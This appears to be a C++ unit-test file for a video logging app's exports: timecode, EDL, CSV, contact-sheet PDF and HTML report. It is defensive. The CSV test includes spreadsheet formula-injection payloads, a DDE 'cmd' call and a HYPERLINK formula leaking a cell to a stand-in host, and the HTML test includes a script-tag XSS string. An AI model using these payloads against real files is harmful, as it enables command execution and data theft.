// The hand-over exports on their own: frame counting at each rate, the contact sheet's layout
// on a canvas that keeps what was drawn, the report's pictures, and the File > Export commands
// of the controller with the files they leave.

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <optional>

#include "documents/ProjectFiles.h"
#include "handover/Handover.h"
#include "support/FakePlatform.h"

namespace {

using namespace projectfiles;
using timecode::FrameRate;

constexpr FrameRate kDropFrame{30, true};

int count(const std::string& text, const std::string& what) {
    int n = 0;
    for (auto at = text.find(what); at != std::string::npos; at = text.find(what, at + 1))
        ++n;
    return n;
}

TEST(FrameCount, LabelsRoundTripThroughADayAtEveryRate) {
    for (const FrameRate rate : {FrameRate{24}, FrameRate{25}, kDropFrame, FrameRate{30}}) {
        const std::int64_t day = timecode::framesPerDay(rate);
        for (std::int64_t frame = 0; frame < day; frame += 997) {
            const std::string label = timecode::labelOf(frame, rate);
            ASSERT_EQ(timecode::frameOf(label, rate), frame) << label;
            ASSERT_EQ(label.find(rate.dropFrame ? ':' : ';'), std::string::npos) << label;
        }
        EXPECT_EQ(timecode::labelOf(day, rate), rate.dropFrame ? "00;00;00;00" : "00:00:00:00");
        EXPECT_EQ(timecode::labelOf(-1, rate), timecode::labelOf(day - 1, rate));
    }
    EXPECT_EQ(timecode::framesPerDay(FrameRate{25}), 2'160'000);
    EXPECT_EQ(timecode::framesPerDay(kDropFrame), 2'589'408);
}

// Drop-frame skips two labels a minute but every tenth, and a label the device cannot send
// stands for the frame after it; a text that is no timecode at the rate counts no frame.
TEST(FrameCount, DropFrameSkipsTwoLabelsAMinuteButEveryTenth) {
    for (const auto& [frame, label] : std::initializer_list<std::pair<int, const char*>>{
             {1799, "00;00;59;29"}, {1800, "00;01;00;02"}, {17981, "00;09;59;29"},
             {17982, "00;10;00;00"}, {107892, "01;00;00;00"}})
        EXPECT_EQ(timecode::labelOf(frame, kDropFrame), label);
    const FrameRate r24{24}, r25{25}, r30{30};
    for (const auto& [text, rate, frame] :
         std::initializer_list<std::tuple<const char*, FrameRate, std::optional<std::int64_t>>>{
             {"00:01:00:00", kDropFrame, 1800}, {"00:01:00:01", kDropFrame, 1800},
             {"00:10:00:00", kDropFrame, 17982}, {"00:01:00:00", r30, 1800},
             {"10:00:00;24", r25, 900'024}, {"10:00:00:25", r25, {}}, {"10:00:00:24", r24, {}},
             {"", r25, {}}, {"24:00:00:00", r25, {}}, {"10:60:00:00", r25, {}},
             {"10:00:60:00", r25, {}}, {"1:00:00:00", r25, {}}, {"10.00.00.00", r25, {}},
             {"10:00:00:0x", r25, {}}, {"10:00:00:000", r25, {}}})
        EXPECT_EQ(timecode::frameOf(text, rate), frame) << text;
}

LogList logOf(const std::string& rateCode, int records) {
    LogList list;
    LogRecord header = newLogHeader();
    header[4] = rateCode;
    list.append(header);
    for (int n = 1; n <= records; ++n) {
        LogRecord r = record(std::to_string(n), "take " + std::to_string(n), "", {});
        list.append(std::move(r));
    }
    return list;
}

TEST(HandoverRate, ComesFromTheLogUnlessGivenAndIsTwentyFiveWhenTheLogNamesNone) {
    handover::Options options;
    for (const auto& [code, name] : std::map<std::string, std::string>{
             {"0", "24"}, {"32", "25"}, {"64", "29.97"}, {"96", "30"}, {"1", "25"}, {"", "25"}}) {
        const LogList list = logOf(code, 1);
        EXPECT_EQ(handover::rateName(handover::rateOf(list, options)), name) << code;
        EXPECT_NE(handover::ale(list, options).find("\nFPS\t" + name + "\n"), std::string::npos);
    }
    options.rate = handover::rateNamed("29.97");
    const std::string edl = handover::edl(logOf("0", 1), options);
    EXPECT_NE(edl.find("FCM: DROP FRAME\r\n"), std::string::npos);
    EXPECT_NE(edl.find("10;00;00;00 10;00;05;12 01;00;00;00 01;00;05;12"), std::string::npos)
        << edl;
    EXPECT_FALSE(handover::rateNamed("23.976"));
}

TEST(HandoverEdl, NamesTheReelFromTheTitleAndNumbersPastNineHundredAndNinetyNine) {
    handover::Options options;
    // Letters, quotes and signs beyond ASCII are spelled in it; a tab or DEL is a blank.
    options.title = "Dreh \xC3\xBC" "ber Nacht\t\x7F\xC3\x80\xC5\xA0\xC5\xBD"
                    "\xE2\x80\x9E\xE2\x80\x9D\xE2\x80\x99\xE2\x80\xA6\xE2\x82\xAC"
                    "\xC5\x93\xE0\xB8\x81";
    const std::string edl = handover::edl(logOf("32", 1000), options);
    EXPECT_EQ(edl.rfind("TITLE: Dreh ueber Nacht  ASZ\"\"'...EURoe?\r\nFCM: NON-DROP FRAME\r\n", 0),
              0u);
    EXPECT_NE(edl.find("\r\n001  Dreh_ueb V     C        10:00:00:00 10:00:05:12 "
                       "01:00:00:00 01:00:05:12\r\n* FROM CLIP NAME: 1\r\n"
                       "* COMMENT: take 1\r\n* COMMENT: LOGGED 05.12.2026 09:15:00\r\n"),
              std::string::npos);
    // The thousandth take follows 999 others of 137 frames each.
    EXPECT_NE(edl.find("\r\n1000  Dreh_ueb V     C        10:00:00:00 10:00:05:12 "
                       "02:31:14:13 02:31:20:00\r\n"),
              std::string::npos);
    options.title = "\xE6\x97\xA5";
    EXPECT_NE(handover::edl(logOf("32", 1), options).find("\r\n001  _        V"),
              std::string::npos);
    options.title.clear();
    EXPECT_NE(handover::edl(logOf("32", 1), options).find("\r\n001  AX       V"),
              std::string::npos);
}

// Whatever a spreadsheet would run reads as typed; the rest is written as it is.
TEST(HandoverCsv, CellsASpreadsheetWouldRunReadAsTyped) {
    const std::string longRun = "-" + std::string(300, 'x');
    for (const auto& [comment, cell] : std::initializer_list<std::pair<std::string, std::string>>{
             {"+1 stop", R"~("=""+1 stop""")~"},
             {"-2", R"~("=""-2""")~"},
             {"@SUM(1)", R"~("=""@SUM(1)""")~"},
             {"  =cmd|' /C calc'!A0", R"~("=""  =cmd|' /C calc'!A0""")~"},
             {R"~(=HYPERLINK("http://e.example/?"&A1,"x"))~",
              R"~("=""=HYPERLINK(""""http://e.example/?""""&A1,""""x"""")""")~"},
             {"\t=1+1", "'\t=1+1"},
             {"\r=1+1", "\"'\r=1+1\""},
             {"=1+1\nnext", "\"'=1+1\nnext\""},
             {longRun, "'" + longRun},
             {"a=b, +c", "\"a=b, +c\""},
             {"1+1", "1+1"}}) {
        LogList list = logOf("32", 1);
        list.replace(LogList::indexOf(1, kFieldComment1), comment);
        EXPECT_NE(handover::csv(list, {}).find(",05.12.2026," + cell + ",,"), std::string::npos)
            << comment;
    }
    // The pictures' names begin with the project's name, whatever the user called it.
    LogList list = logOf("32", 1);
    list.replace(LogList::indexOf(1, kFieldPicture), patternPicture(40));
    handover::Options options;
    options.title = "=cmd|' calc'!A0";
    EXPECT_NE(handover::csv(list, options).find(R"~(,"=""=cmd|' calc'!A0_1_1.jpg""")~" "\r\n"),
              std::string::npos);
}

// Add's blank record at the end, Insert's before take 2: no events, and the takes around them
// follow each other on the record side; a take at midnight with a stop is one. Every other
// file keeps them as rows.
TEST(HandoverEdl, RecordsNobodyTimedAreNoEventsButStayRows) {
    LogList list = logOf("32", 2);
    LogRecord blank = record("0", "", "", {});
    blank[kFieldStart] = "00:00:00:00";
    blank[kFieldStop] = "";
    list.insertRecord(2, blank);
    list.append(blank);
    blank[kFieldStart] = "";
    list.append(blank);
    blank[kFieldStart] = "00:00:00:00";
    blank[kFieldStop] = "00:00:01:00";
    blank[kFieldDate] = blank[kFieldTimeOfDay] = "";  // and nobody knows when it was logged
    list.append(blank);
    const std::string edl = handover::edl(list, {});
    EXPECT_TRUE(edl.ends_with("01:00:10:24 01:00:11:24\r\n* FROM CLIP NAME: 0\r\n")) << edl;
    EXPECT_EQ(count(edl, "* FROM CLIP NAME:"), 3) << edl;
    EXPECT_NE(edl.find("\r\n002  AX       V     C        10:00:00:00 10:00:05:12 "
                       "01:00:05:12 01:00:10:24\r\n* FROM CLIP NAME: 2\r\n"),
              std::string::npos)
        << edl;
    EXPECT_NE(edl.find("\r\n003  AX       V     C        00:00:00:00 00:00:01:00 "
                       "01:00:10:24 01:00:11:24\r\n"),
              std::string::npos);
    EXPECT_EQ(count(handover::csv(list, {}), "\r\n"), 7);
    EXPECT_EQ(count(handover::ale(list, {}), "\tV\t"), 6);
}

// Records 1 to n, those in `pictured` with a picture (the first byte the record's position),
// one picture that does not decode, and one comment longer than a page.
LogList sheetLog(int records, const std::vector<int>& pictured, int bad, int longComment) {
    LogList list = logOf("32", records);
    for (const int n : pictured)
        list.replace(LogList::indexOf(n, kFieldPicture), patternPicture(40, n * 7));
    list.replace(LogList::indexOf(bad, kFieldPicture), Picture{'b', 'a', 'd', 0, 0, 0, 0, 0, 0, 0, 0, 0});
    list.replace(LogList::indexOf(longComment, kFieldComment1), std::string(20000, 'w'));
    return list;
}

// Every record within its page, each cell's frame holding its picture, the cells of one page
// never overlapping, the pages numbered.
TEST(ContactSheet, DrawsEveryRecordWithinItsPageAndNumbersThePages) {
    std::vector<int> pictured;
    for (int n = 1; n <= 40; n += 3)
        pictured.push_back(n);
    const LogList list = sheetLog(40, pictured, 2, 19);
    fake::PdfCanvas canvas;
    double lastProgress = 0;
    handover::Options options;
    options.title = "Day 3";
    handover::drawContactSheet(list, options, canvas, [&](double done) {
        EXPECT_GE(done, lastProgress);
        lastProgress = done;
        return true;
    });
    EXPECT_DOUBLE_EQ(lastProgress, 1.0);
    const int pages = canvas.page + 1;
    ASSERT_GT(pages, 2);
    std::map<std::string, int> numbers;
    int pictures = 0;
    std::vector<std::string> footers;
    std::vector<fake::PdfCanvas::Call> cells;
    for (const auto& call : canvas.calls) {
        EXPECT_GE(call.y, 0) << call.text;
        EXPECT_LE(call.y + call.height, canvas.height - 24) << call.text.substr(0, 40);
        EXPECT_LE(call.x + call.width, canvas.width - 36 + 0.01);
        if (call.kind == 'f' && call.width > 163)
            cells.push_back(call);
        if (call.kind == 'p') {
            ++pictures;
            EXPECT_EQ(call.page, cells.back().page);
            EXPECT_GE(call.x, cells.back().x);
            EXPECT_LE(call.y + call.height, cells.back().y + cells.back().height);
        }
        if (call.kind == 't' && call.text.find("Page ") != std::string::npos)
            footers.push_back(call.text);
        if (call.kind == 't' && call.height == 14)
            ++numbers[call.text];
    }
    EXPECT_EQ(pictures, static_cast<int>(pictured.size()));
    for (int n = 1; n <= 40; ++n)
        EXPECT_EQ(numbers[std::to_string(n)], 1) << n;
    ASSERT_EQ(cells.size(), 40u);
    for (std::size_t a = 0; a < cells.size(); ++a) {
        for (std::size_t b = a + 1; b < cells.size(); ++b) {
            const bool apart = cells[a].page != cells[b].page ||
                               cells[a].x + cells[a].width <= cells[b].x ||
                               cells[b].x + cells[b].width <= cells[a].x ||
                               cells[a].y + cells[a].height <= cells[b].y ||
                               cells[b].y + cells[b].height <= cells[a].y;
            EXPECT_TRUE(apart) << a << " " << b;
        }
    }
    ASSERT_EQ(static_cast<int>(footers.size()), pages);
    for (int page = 0; page < pages; ++page) {
        EXPECT_EQ(footers[static_cast<std::size_t>(page)],
                  "Day 3    Page " + std::to_string(page + 1) + " of " + std::to_string(pages));
    }
    EXPECT_EQ(canvas.calls.front().text, "Day 3");
    EXPECT_EQ(canvas.calls[1].text, "Date: 05.12.2026    Frame rate: 25 fps    Records: 40");
}

TEST(HtmlReport, EmbedsThePicturesThatScaleAndEscapesTheText) {
    LogList list = sheetLog(4, {1, 3}, 4, 2);
    list.replace(LogList::indexOf(3, kFieldComment2), std::string("<script>alert(1)</script> & \"x\""));
    list.replace(LogList::indexOf(2, kFieldPicture), patternPicture(10, 1));
    list.replace(LogList::indexOf(4, kFieldDate), std::string("06.12.2026"));
    fake::PictureScaler scaler;
    const std::string html = handover::htmlReport(list, {}, &scaler);
    EXPECT_EQ(scaler.scaled, 2);
    EXPECT_EQ(html.find("<script"), std::string::npos);
    EXPECT_NE(html.find("Date: 05.12.2026 \xE2\x80\x93 06.12.2026 &middot;"), std::string::npos);
    EXPECT_NE(html.find("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;x&quot;"),
              std::string::npos);
    // "thumb:7" and "thumb:21" in base64.
    EXPECT_NE(html.find("src=\"data:image/jpeg;base64,dGh1bWI6Nw==\""), std::string::npos);
    EXPECT_NE(html.find("src=\"data:image/jpeg;base64,dGh1bWI6MjE=\""), std::string::npos);
    EXPECT_EQ(handover::htmlReport(list, {}, nullptr).find("<img"), std::string::npos);
}

struct Exported {
    fake::App a;
    TempFolder folder;
    Exported() {
        a.app->awakeFromNib();
        LogList list = logOf("32", 3);
        for (const int n : {1, 2})
            list.replace(LogList::indexOf(n, kFieldPicture), patternPicture(40, n));
        a.app->logStartArray = list;
        a.app->setPathString(folder.file("Day 4.vlg"));
        a.app->editChangeFlag = 0;
    }
};

TEST(ExportCommands, WriteTheChosenFileAndLeaveTheLogAsItWas) {
    Exported e;
    const std::uint64_t revision = e.a.app->logStartArray.revision();
    e.a.windows.dialogs.savePath = e.folder.file("for editorial");
    e.a.app->exportCsv();
    EXPECT_EQ(e.a.windows.dialogs.saveDialogs, std::vector<std::string>{"Day 4.csv"});
    const std::string csv = fileText(e.folder.file("for editorial.csv"));
    EXPECT_EQ(csv.rfind("\xEF\xBB\xBFNumber,", 0), 0u);
    EXPECT_NE(csv.find("\r\n1,10:00:00:00,10:00:05:12,00:00:05,09:15:00,05.12.2026,take 1,,"
                       "Day 4_1_1.jpg\r\n"),
              std::string::npos);
    e.a.windows.dialogs.savePath = e.folder.file("sheet.pdf");
    e.a.app->exportContactSheet();
    EXPECT_EQ(fileText(e.folder.file("sheet.pdf")).rfind("%PDF-fake ", 0), 0u);
    EXPECT_EQ(e.a.pdfWriter.sizes, std::vector<platform::PageSize>{platform::PageSize::A4});
    e.a.pdfWriter.preferred = platform::PageSize::Letter;
    e.a.app->exportContactSheet();
    EXPECT_EQ(e.a.pdfWriter.sizes.back(), platform::PageSize::Letter);
    e.a.windows.dialogs.savePath = e.folder.file("day.edl");
    e.a.app->exportEdl();
    EXPECT_EQ(fileText(e.folder.file("day.edl")).rfind("TITLE: Day 4\r\n", 0), 0u);
    EXPECT_TRUE(e.a.windows.dialogs.alerts.empty());
    EXPECT_EQ(e.a.app->logStartArray.revision(), revision);
    EXPECT_EQ(e.a.app->editChangeFlag, 0);
}

// The export reads a copy of the log on a thread of its own: a take the interface logs
// meanwhile is in the log at once, not in the file. Cancelled, it leaves no file and the old
// one whole, and tells nothing.
TEST(ExportCommands, TakesGoOnIntoTheLogAndACancelLeavesNoFile) {
    Exported e;
    int steps = 0;
    std::vector<int> records;
    e.a.windows.dialogs.whileWorking = [&] {
        if (steps++ == 0)
            e.a.receive({0xF0, 0x2C, 0x4D, 0x67, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0xF7});
        records.push_back(e.a.app->logStartArray.recordCount());
    };
    e.a.windows.dialogs.savePath = e.folder.file("day.html");
    e.a.app->exportReport();
    EXPECT_EQ(records, (std::vector<int>{4, 4, 4, 4}));
    EXPECT_EQ(count(fileText(e.folder.file("day.html")), "<tr id="), 3);

    e.a.windows.dialogs.cancelAt = 0.5;
    using Command = void (vexaLogging3AppDelegate::*)();
    for (const auto& [command, name] : std::initializer_list<std::pair<Command, std::string>>{
             {&vexaLogging3AppDelegate::exportEdl, "old.edl"},
             {&vexaLogging3AppDelegate::exportCsv, "old.csv"},
             {&vexaLogging3AppDelegate::exportAle, "old.ale"},
             {&vexaLogging3AppDelegate::exportContactSheet, "old.pdf"},
             {&vexaLogging3AppDelegate::exportReport, "old.html"}}) {
        writeFile(e.folder.file(name), "old");
        e.a.windows.dialogs.savePath = e.folder.file(name);
        (e.a.app.get()->*command)();
        EXPECT_EQ(fileText(e.folder.file(name)), "old") << name;
    }
    EXPECT_EQ(e.folder.entries(), 6u);
    EXPECT_TRUE(e.a.windows.dialogs.alerts.empty());
}

// The reel or tape name is asked at the first EDL or ALE of a saved log, offering the
// project's name, and kept for that file; an unsaved log is asked each time; no answer, no
// file.
TEST(ExportCommands, AskTheReelOnceForEachFile) {
    Exported e;
    auto& dialogs = e.a.windows.dialogs;
    dialogs.text = "A001";
    dialogs.savePath = e.folder.file("day.edl");
    e.a.app->exportEdl();
    e.a.app->exportCsv();
    dialogs.savePath = e.folder.file("day.ale");
    e.a.app->exportAle();
    EXPECT_EQ(dialogs.offered, std::vector<std::string>{"Day 4"});
    EXPECT_NE(fileText(e.folder.file("day.edl")).find("\r\n001  A001     V"), std::string::npos);
    EXPECT_NE(fileText(e.folder.file("day.ale")).find("\tA001\t"), std::string::npos);
    dialogs.text = "";
    dialogs.savePath = e.folder.file("new.edl");
    for (const std::string& path : {e.folder.file("Day 5.vlg"), std::string()}) {
        e.a.app->setPathString(path);
        e.a.app->exportEdl();
    }
    EXPECT_EQ(dialogs.offered, (std::vector<std::string>{"Day 4", "Day 5", "Untitled"}));
    EXPECT_FALSE(std::filesystem::exists(e.folder.file("new.edl")));
    EXPECT_EQ(dialogs.kept.size(), 1u) << "a cancel keeps no name";
}

TEST(ExportCommands, TellWhyAFileWasNotWrittenAndKeepTheOldOne) {
    Exported e;
    e.a.windows.dialogs.savePath = e.folder.file("missing/day.ale");
    e.a.app->exportAle();
    ASSERT_EQ(e.a.windows.dialogs.alerts.size(), 1u);
    EXPECT_NE(e.a.windows.dialogs.alerts[0].message.find("could not be written"),
              std::string::npos);
    writeFile(e.folder.file("old.pdf"), "old");
    e.a.pdfWriter.failWith = "the printer ran dry";
    e.a.windows.dialogs.savePath = e.folder.file("old.pdf");
    e.a.app->exportContactSheet();
    ASSERT_EQ(e.a.windows.dialogs.alerts.size(), 2u);
    EXPECT_NE(e.a.windows.dialogs.alerts[1].message.find("the printer ran dry"),
              std::string::npos);
    EXPECT_EQ(fileText(e.folder.file("old.pdf")), "old");
    EXPECT_EQ(handover::writeExport(handover::Format::Pdf, e.a.app->logStartArray, {},
                                    e.folder.file("none.pdf"), {}),
              "no PDF writer is available");
    EXPECT_EQ(e.folder.entries(), 1u);
    // The project file chosen by mistake gets a file beside it, never the export's bytes.
    writeFile(e.folder.file("Day 4.vlg"), "project");
    e.a.windows.dialogs.savePath = e.folder.file("Day 4.vlg");
    e.a.app->exportReport();
    EXPECT_EQ(fileText(e.folder.file("Day 4.vlg")), "project");
    EXPECT_NE(fileText(e.folder.file("Day 4.vlg.html")).find("<h1>Day 4</h1>"),
              std::string::npos);
    e.a.app->fullScreenMode = 1;
    e.a.windows.dialogs.savePath = e.folder.file("full");
    e.a.app->exportEdl();
    EXPECT_EQ(e.a.windows.dialogs.saveDialogs.size(), 3u);
}

}  // namespace
